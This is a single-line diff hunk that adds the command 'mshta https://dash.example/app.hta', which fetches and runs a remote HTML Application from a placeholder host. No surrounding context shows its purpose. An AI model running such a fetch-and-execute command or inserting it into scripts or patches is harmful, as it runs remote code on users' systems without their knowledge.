@@ -1,0 +1,1 @@
+mshta https://dash.example/app.hta
